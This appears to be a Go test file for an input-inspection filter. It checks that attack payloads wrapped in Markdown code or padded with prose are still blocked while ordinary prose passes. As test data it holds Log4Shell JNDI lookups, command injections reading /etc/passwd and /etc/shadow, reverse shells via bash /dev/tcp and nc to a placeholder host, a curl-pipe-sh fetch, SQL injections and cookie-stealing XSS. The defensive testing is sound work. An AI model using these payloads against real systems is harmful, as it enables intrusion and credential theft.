package inspect

import (
	"strings"
	"testing"
)

// TestCodeStillRead checks that wrapping a payload in Markdown code does
// not hide it from the interpreters that read the bytes, not the Markdown:
// a logger runs a JNDI lookup wherever it is, and to a shell a backtick
// (a code span, a fence) is command substitution. Each payload is sent
// fenced, in a code span and indented, after enough prose to read as free
// text; the documentation that quotes such things in passing (a file API
// opening /etc/passwd, template literals, an installer piped into sh)
// still passes. Removing either whole-value reading fails the payloads.
func TestCodeStillRead(t *testing.T) {
	e := defaultEngine(t)
	const prose = "Here is what I tried on the server, it did not work for me at all."
	wrap := map[string]func(string) string{
		"fenced":    func(p string) string { return "```\n" + p + "\n```\n" + prose },
		"code span": func(p string) string { return prose + " `" + p + "`" },
		"indented":  func(p string) string { return prose + "\n\n    " + p + "\n\n" + prose },
	}
	for _, p := range []string{
		"${jndi:ldap://203.0.113.9/a}",
		"${${lower:j}ndi:${lower:l}${lower:d}ap://203.0.113.9/a}",
		"127.0.0.1; cat /etc/passwd",
		"127.0.0.1 && tail -n 5 /etc/shadow",
		"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
		"nc -e /bin/sh 203.0.113.9 4444",
		"; head /proc/self/environ",
	} {
		for how, w := range wrap {
			t.Run(how+" "+p, func(t *testing.T) { wantPostBlocked(t, e, w(p), true) })
		}
	}
	for _, doc := range []string{
		"```js\nimport { readFile } from 'node:fs';\n\nreadFile('/etc/passwd', (err, data) => {\n  if (err) throw err;\n  console.log(data);\n});\n```\n" + prose,
		prose + " Use a template literal: `${user.name} has ${count} new messages`, or nest them: `${a(`'${b}`)}`.",
		"Install it with the script:\n\n```sh\ncurl -fsSL https://deno.land/install.sh | sh\n```\n" + prose,
		prose + " The account list lives in `/etc/passwd` and `getent passwd` reads it; see also `man 5 passwd`.",
	} {
		t.Run("doc "+strings.Fields(doc)[0], func(t *testing.T) { wantPostBlocked(t, e, doc, false) })
	}
}

// TestFreeTextStartReadAsValue checks the padding bypass: a payload that
// ends the interpreter's reading with a comment mark, then enough words
// to read as free text, is judged by its start as a value would be; prose
// whose first line holds an em dash, a URL, an anchor or C# passes.
// Removing the start's reading fails the payloads.
func TestFreeTextStartReadAsValue(t *testing.T) {
	e := defaultEngine(t)
	const pad = " and here are some more words for you to read"
	for _, p := range []string{
		"1; drop table users --",
		"1;select pg_sleep(10)--",
		"1;drop/**/table/**/users--",
		"1 and sleep(5)--",
		"1 or 1=1 #",
		"1 union select username,password from users--",
		"; sleep 10 #",
		"&& curl http://203.0.113.9/x | sh #",
		"javascript:alert(document.cookie)//",
		"<svg onload=alert(1)>//",
	} {
		t.Run(p, func(t *testing.T) { wantPostBlocked(t, e, p+pad, true) })
	}
	for _, prose := range []string{
		"I went home early -- and slept for most of the afternoon, which helped.",
		"See https://example.com/docs#install for the steps, then restart the server.",
		"Languages like C# and F# run on .NET; both compile to the same bytecode.",
		"The selector div#main > p picks the paragraphs // not the spans, as noted above.",
		"Use --verbose to see every request, or --quiet to see none of them at all.",
		"Chapter 3 #1 bestseller, and the one that sold the most copies last year.",
	} {
		t.Run("prose", func(t *testing.T) { wantPostBlocked(t, e, prose, false) })
	}
}

// TestFreeTextDelayCommand checks a blind injection's delay in prose: sleep
// and ping are English words, which the rule for commands after a
// separator skips, but a number of seconds between separators, or
// substituted, is a command. Sentences about sleep and ping pass.
func TestFreeTextDelayCommand(t *testing.T) {
	e := defaultEngine(t)
	const pad = " and here are some more words for you to read"
	for _, p := range []string{"; sleep 10;", "Hello, | sleep 10 ;", "$(sleep 10)", "&& sleep 5 &&", "| ping -c 10 127.0.0.1 |"} {
		t.Run(p, func(t *testing.T) { wantPostBlocked(t, e, p+pad, true) })
	}
	for _, prose := range []string{
		"I could not sleep; 10 hours of work will do that to anyone, I think.",
		"Babies sleep 14 hours a day; adults need about 8 of them to stay well.",
		"If the host is down, ping -c 3 example.com from the shell tells you so quickly.",
		"Ping me on chat; I will sleep early tonight & answer in the morning.",
	} {
		t.Run("prose", func(t *testing.T) { wantPostBlocked(t, e, prose, false) })
	}
}
